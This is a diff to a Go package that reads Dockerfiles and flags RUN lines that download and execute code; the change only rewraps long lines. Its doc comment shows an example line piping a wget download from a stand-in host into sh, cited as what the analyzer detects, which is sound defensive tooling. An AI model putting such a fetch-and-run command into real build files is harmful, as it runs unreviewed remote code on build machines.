@@ -1,14 +1,14 @@
 // Package dockerfile reads Dockerfiles (Dockerfile reference, 1.10).
 //
-// A text comes in, a File goes out: what of the folder comes into the image, on whose image it builds, and each RUN line with what
-// it would do. For example
+// A text comes in, a File goes out: what of the folder comes into the image, on whose image it builds, and
+// each RUN line with what it would do. For example
 //
 //	FROM alpine
 //	COPY . /app
 //	RUN wget -qO- https://x.example/i | sh
 //
-// takes the whole folder, and its RUN line runs what it fetches. Commands of RUN lines are not taken apart as the shell would:
-// telling words are looked for. Nothing is fetched or built.
+// takes the whole folder, and its RUN line runs what it fetches. Commands of RUN lines are not taken apart as
+// the shell would: telling words are looked for. Nothing is fetched or built.
 package dockerfile
 
 import (
@@ -92,7 +92,8 @@ func (f *File) runs(text string) {
 		for _, m := range saved().FindAllStringSubmatch(run, maxMatches) {
 			fetched = append(fetched, path.Base(m[1]+m[2]))
 		}
-		runsIt := piped().MatchString(run) || slices.ContainsFunc(fetched, func(name string) bool { return starts(run, name) })
+		runsIt := piped().MatchString(run) ||
+			slices.ContainsFunc(fetched, func(name string) bool { return starts(run, name) })
 		f.Runs = append(f.Runs, Run{run, runsIt})
 	}
 }
@@ -103,7 +104,8 @@ func runLine(line string) (string, bool) {
 	switch strings.ToUpper(word) {
 	case "RUN", "ONBUILD":
 		return rest, true
-	case "FROM", "COPY", "ADD", "ENV", "ARG", "LABEL", "WORKDIR", "CMD", "ENTRYPOINT", "EXPOSE", "USER", "VOLUME", "HEALTHCHECK",
+	case "FROM", "COPY", "ADD", "ENV", "ARG", "LABEL", "WORKDIR", "CMD", "ENTRYPOINT", "EXPOSE", "USER", "VOLUME",
+		"HEALTHCHECK",
 		"SHELL", "STOPSIGNAL", "MAINTAINER", "#", "":
 		return "", false
 	}
